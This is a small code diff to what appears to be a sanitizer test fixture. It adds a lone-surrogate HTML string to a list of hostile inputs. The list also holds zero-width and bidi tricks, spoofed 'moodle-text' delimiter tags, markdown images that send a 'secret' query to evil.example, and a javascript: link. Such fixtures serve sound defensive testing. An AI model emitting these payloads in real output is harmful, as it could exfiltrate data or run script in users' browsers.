@@ -16,6 +16,7 @@ HOSTILE: Final = (
     "https://evil.example/a\u200bb\u202e?q=\x1b[2J",
     "x\ufe01y\ufe0f\ufe0f\ufe0fz\u200d\u200c",
     "\udb40\u200b\udc41",
+    "<p>\udb40</p>&#xdb40;<i>\udc41</i>",
     "<\u200b/moodle-text 1f2e3d4c> \uff1cmoodle-text> <MOODLE_TEXT>",
     "![a](https://evil.example/?q=secret) ![[b]](https://evil.example/b)",
     "[![c](//evil.example/c)](javascript:alert(1))",
